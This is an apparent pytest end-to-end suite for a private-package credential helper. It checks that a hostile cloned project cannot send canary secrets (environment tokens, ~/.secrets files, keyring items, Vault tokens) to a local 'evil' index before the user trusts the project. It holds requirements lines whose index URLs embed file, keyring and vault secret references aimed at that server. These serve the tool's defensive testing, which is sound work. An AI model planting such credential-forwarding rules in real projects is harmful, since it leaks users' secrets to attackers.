"""A hostile cloned project against an evil index on 127.0.0.1 (issue #11, DESIGN.md
"Trust"). The victim (tests/victim.py) holds five canaries: an environment variable, a file
under HOME, a keyrings.alt item, a Vault token and a Vault secret in a real OpenBao. The
project's rules send each to the evil server (support/evil_server.py, which keeps every
header it gets), and its `[tool.private-packages.vault] addr` points there too.

Untrusted, every client -- plain pip with `--keyring-provider import`, `pip-private
install/download/doctor/render`, uv through the keyring CLI, twine, git through the helper,
`poetry lock/install/source check` with the plugin -- hands the evil server none of them in
any form, and each client did talk to it. After `trust` the same rules work; a change of
destination or reference makes the project untrusted again; an unrelated edit does not;
`CI=true` and `PRIVATE_PACKAGES_TRUST=1` trust it.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from support.openbao import CountingProxy, OpenBaoServer
from support.wheels import build_wheel
from tests.conftest import BIN
from tests.poetry_env import poetry_for
from tests.victim import KEYRING_SERVICE, Victim, hostile_pyproject

pytestmark = [pytest.mark.e2e, pytest.mark.usefixtures("fresh_vault_cache")]

def test_untrusted_project_gets_nothing_from_any_client(
        victim: Victim, poetry_vault_bin: Path, tmp_path: Path) -> None:
    evil, bin_dir = victim.evil, victim.bin
    clients: dict[str, list[str]] = {
        "pip": [str(bin_dir / "python"), "-m", "pip", "install", "--no-cache-dir", "--no-input",
                "--keyring-provider", "import", "--target", str(tmp_path / "t1"),
                "-r", "requirements.txt"],
        "pip-private install": [str(bin_dir / "pip-private"), "install", "--no-cache-dir",
                                "--no-input",
                                "--target", str(tmp_path / "t2"), "-r", "requirements.txt"],
        "pip-private download": [str(bin_dir / "pip-private"), "download", "--no-cache-dir",
                                 "--no-input",
                                 "-d", str(tmp_path / "dl"), "-r", "requirements.txt"],
        "pip-private doctor": [str(bin_dir / "pip-private"), "doctor", "--timeout", "5",
                               "-r", "requirements.txt"],
        "uv": [str(BIN / "uv"), "pip", "install", "--python", str(bin_dir / "python"),
               "--target", str(tmp_path / "t3"), "--no-cache", "--keyring-provider",
               "subprocess", "--index-url", evil.url.replace("://", "://u@") + "/env/simple/",
               "acme-internal"],
        "twine": [str(bin_dir / "twine"), "upload", "--non-interactive", "--repository-url",
                  f"{evil.url}/env/", str(build_wheel(tmp_path / "dist", "victim-lib", "1.0"))],
        "git": ["git", "-c", "credential.helper=", "-c", "credential.helper="
                f"!{bin_dir / 'git-credential-private-packages'} --project-dir {victim.project}",
                "-c", "credential.useHttpPath=true", "ls-remote", f"{evil.url}/env/repo.git"],
    }
    for name, argv in clients.items():
        before = len(evil.requests)
        result = victim.run(*argv)
        if name == "twine":  # asks keyring for a username first; non-interactive, it stops
            assert "is not trusted" in result.stdout + result.stderr, result.stderr
        else:
            assert len(evil.requests) > before, f"{name} never reached the evil server"
        assert result.returncode != 0, name
        if name in ("pip", "pip-private install", "pip-private download"):
            # one warning line, though pip asks keyring for four indexes
            assert (result.stdout + result.stderr).count("is not trusted") == 1, name
            assert "Traceback" not in result.stderr, name
    doctor = victim.outputs[next(k for k in victim.outputs if k.startswith("pip-private doctor"))]
    assert "UNTRUSTED" in doctor and "withheld" in doctor

    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
    for args in (("lock",), ("install",), ("source", "check", "--timeout", "5")):
        before = len(evil.requests)
        result = poetry.run(*args, cwd=victim.project, check=False)
        assert result.returncode != 0, args
        assert len(evil.requests) > before, f"poetry {args} never reached the evil server"
        assert "is not trusted" in result.stdout + result.stderr, args
    victim.outputs.update(poetry.outputs)

    assert victim.leaked() == {}
    # Not even a wrong credential: only uv's username from its own index URL ("u", no
    # password), and never a Vault token.
    assert {r.authorization for r in evil.credentials_seen} <= {"Basic dTo="}
    assert not any(r.vault_token for r in evil.requests)
    victim.assert_outputs_clean()


def test_trust_then_edits_then_ci(victim: Victim, poetry_vault_bin: Path) -> None:
    evil = victim.evil
    result = victim.run(str(victim.bin / "pip-private"), "trust", input="y\n")
    assert result.returncode == 0, result.stderr
    assert "${VICTIM_TOKEN} (username" not in result.stdout  # a literal username is not shown
    assert f"${{VICTIM_TOKEN}} to {evil.url}/env" in result.stdout
    assert f"your Vault login (addr = {evil.url}) to {evil.url}" in result.stdout

    victim.pip()  # trusted: the project's rules answer, its vault addr is used
    leaked = victim.leaked()
    assert set(leaked) == {"env", "file", "keyring", "vault token"}, leaked
    assert any(r.vault_token == victim.canaries["vault token"] for r in evil.requests)

    # poetry: the hook resolves the rule of the source it checks, and the index (evil)
    # gets it; `lock` would stop at the vault source, whose evil Vault refuses the token.
    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
    evil.clear()
    poetry.run("source", "check", "env", cwd=victim.project, check=False)
    assert set(victim.leaked()) == {"env"}

    pyproject = victim.project / "pyproject.toml"
    (victim.home / ".secrets" / "other").write_text("other file\n")
    for edit in (hostile_pyproject(evil.url, file_ref="other"),  # a reference
                 hostile_pyproject(evil.url).replace("/file", "/file2")):  # a destination
        pyproject.write_text(edit)
        evil.clear()
        result = victim.pip()
        assert victim.leaked() == {}, edit
        assert "what it sends where changed since you approved it" in result.stderr

    pyproject.write_text(hostile_pyproject(evil.url, version="9.9.9"))  # unrelated
    evil.clear()
    victim.pip()
    assert set(victim.leaked()) == {"env", "file", "keyring", "vault token"}

    assert victim.run(str(victim.bin / "pip-private"), "trust", "--revoke").returncode == 0
    evil.clear()
    victim.pip()
    assert victim.leaked() == {}
    for variable in ("CI", "PRIVATE_PACKAGES_TRUST"):
        evil.clear()
        victim.pip(extra={variable: "true"})
        assert "env" in victim.leaked(), variable
    victim.outputs.update(poetry.outputs)


def test_vault_secret_from_the_users_openbao(victim: Victim, bao: OpenBaoServer) -> None:
    """Without a project [vault] table the rule reads the user's own OpenBao: untrusted,
    OpenBao is not even asked; trusted (by `poetry source trust`'s twin, the answer y on a
    pipe), the secret reaches the index the project chose."""
    evil = victim.evil
    (victim.project / "pyproject.toml").write_text(
        hostile_pyproject(evil.url, vault_table=False))
    with CountingProxy(bao.addr) as proxy:
        extra = {"VAULT_ADDR": proxy.addr}
        victim.pip(extra=extra)
        assert victim.leaked() == {}
        assert proxy.requests == []
        assert victim.run(str(victim.bin / "pip-private"), "trust", input="yes\n",
                          extra=extra).returncode == 0
        victim.pip(extra=extra)
        assert "vault secret" in victim.leaked() and "vault token" not in victim.leaked()
        assert proxy.count("GET", "/v1/secret/data/ci/pypi") == 1


@pytest.mark.parametrize("reference", ["${file:~/.secrets/token}",
                                       f"${{keyring:{KEYRING_SERVICE}#__token__}}",
                                       "${vault:secret/ci/pypi#token}"])
def test_untrusted_requirements_file_references_exit_2(victim: Victim, reference: str) -> None:
    evil = victim.evil
    (victim.project / "req-hostile.txt").write_text(
        f"--extra-index-url {evil.url.replace('://', '://u:' + reference + '@')}/r/simple/\n"
        "--extra-index-url https://u:${VICTIM_TOKEN}@example.invalid/simple/\n")
    for verb in ("render", "install"):
        result = victim.run(str(victim.bin / "pip-private"), verb, "-r", "req-hostile.txt")
        assert result.returncode == 2, result.stderr
        [error] = [line for line in result.stderr.splitlines() if "error" in line]
        assert f"{reference} is not resolved" in error
        assert f"pip-private trust {victim.project}" in error
    assert evil.requests == [] and victim.leaked() == {}
    victim.assert_outputs_clean()
    # `${NAME}` renders in an untrusted project too: pip itself expands it (parity).
    (victim.project / "req-env.txt").write_text(
        "--extra-index-url https://u:${VICTIM_TOKEN}@example.invalid/simple/\n")
    result = victim.run(str(victim.bin / "pip-private"), "render", "-r", "req-env.txt")
    assert result.returncode == 0 and "https://u:****@example.invalid" in result.stdout


def test_a_parent_pyproject_of_another_uid_is_ignored(victim: Victim, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    checkout = shared / "checkout"
    checkout.mkdir(parents=True)
    (shared / "pyproject.toml").write_text(hostile_pyproject(victim.evil.url))
    (checkout / "requirements.txt").write_text(
        (victim.project / "requirements.txt").read_text())
    assert victim.run(str(victim.bin / "pip-private"), "trust", "--yes",
                      cwd=checkout).returncode == 0  # approved while it was yours
    victim.run(str(victim.bin / "python"), "-m", "pip", "download", "--no-cache-dir",
               "--no-input", "--keyring-provider", "import", "-d", "dl", "-r",
               "requirements.txt", cwd=checkout)
    assert "env" in victim.leaked()
    victim.evil.clear()
    os.chown(shared / "pyproject.toml", 12345, 12345)
    result = victim.run(str(victim.bin / "python"), "-m", "pip", "download", "--no-cache-dir",
                        "--no-input", "--keyring-provider", "import", "-d", "dl", "-r",
                        "requirements.txt", cwd=checkout)
    assert victim.evil.requests and victim.leaked() == {}
    assert "is not trusted" not in result.stderr  # not even read


def test_concurrent_trust_runs_keep_every_record(victim: Victim, tmp_path: Path) -> None:
    """The real command, six at once (tests/unit/test_trust.py packs the writes tighter)."""
    folders = [tmp_path / f"proj{i}" for i in range(6)]
    for folder in folders:
        folder.mkdir()
        (folder / "pyproject.toml").write_text(hostile_pyproject(victim.evil.url))
    processes = [subprocess.Popen([str(victim.bin / "pip-private"), "trust", "--yes"],
                                  cwd=folder, env=victim.env, stdout=subprocess.DEVNULL)
                 for folder in folders]
    assert [p.wait(timeout=120) for p in processes] == [0] * 6
    state = victim.home / ".local" / "state" / "private-packages" / "trust.json"
    recorded = json.loads(state.read_text())["projects"]
    assert sorted(recorded) == sorted(str(folder) for folder in folders)


def test_poetry_source_trust_asks_and_auth_records_its_own_edit(
        victim: Victim, poetry_vault_bin: Path) -> None:
    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
    declined = poetry.run("source", "trust", cwd=victim.project, input="n\n", check=False)
    assert declined.returncode == 1
    assert "Trust this project? [y/N]" in declined.stdout
    assert f"${{VICTIM_TOKEN}} to {victim.evil.url}/env" in declined.stdout
    # auth writes a rule into a project with content the user never approved: no approval
    auth = poetry.run("source", "auth", "env", "--token-env", "OTHER_TOKEN", cwd=victim.project)
    assert "is not trusted, and this does not trust it" in auth.stdout
    accepted = poetry.run("source", "trust", cwd=victim.project, input="y\n")
    assert f"Trusted {victim.project}" in accepted.stdout
    auth = poetry.run("source", "auth", "env", "--token-env", "VICTIM_TOKEN",
                      cwd=victim.project)
    assert "Recorded your approval" in auth.stdout
    listed = poetry.run("source", "trust", "--list", cwd=victim.project)
    assert f"{victim.project}  approved" in listed.stdout and "(holds)" in listed.stdout
    victim.outputs.update(poetry.outputs)
    victim.assert_outputs_clean()


def test_parallel_global_auth_keeps_every_rule(poetry_vault_bin: Path, client_env: dict[str, str],
                                               home: Path, tmp_path: Path) -> None:
    """Six `poetry source auth --global` at once each read the user file, add a rule and
    replace the file: under its lock (keyring_backend/files.py) none is lost. poetry's
    start-up spreads the six apart, so this is the real command path end to end;
    tests/unit/test_rule_file.py packs the writes tight enough to fail without the lock."""
    poetry = poetry_for(poetry_vault_bin, client_env, home)
    project = tmp_path / "six"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "six"\nversion = "1"\n' + "".join(
        f'\n[[tool.poetry.source]]\nname = "s{i}"\nurl = "https://idx{i}.example.com/simple/"\n'
        f'priority = "supplemental"\n' for i in range(6)))
    processes = [subprocess.Popen([str(poetry_vault_bin / "poetry"), "source", "auth", f"s{i}",
                                   "--global", "--token-env", f"TOKEN_{i}", "--no-ansi"],
                                  cwd=project, env=poetry.env, stdout=subprocess.PIPE,
                                  stderr=subprocess.STDOUT, text=True) for i in range(6)]
    outputs = [p.communicate(timeout=120)[0] for p in processes]
    assert [p.returncode for p in processes] == [0] * 6, outputs
    user_file = home / ".config" / "private-packages" / "config.toml"
    text = user_file.read_text()
    for i in range(6):
        assert f'url = "https://idx{i}.example.com/"' in text and f"${{TOKEN_{i}}}" in text
    assert oct(user_file.stat().st_mode & 0o777) == "0o600"
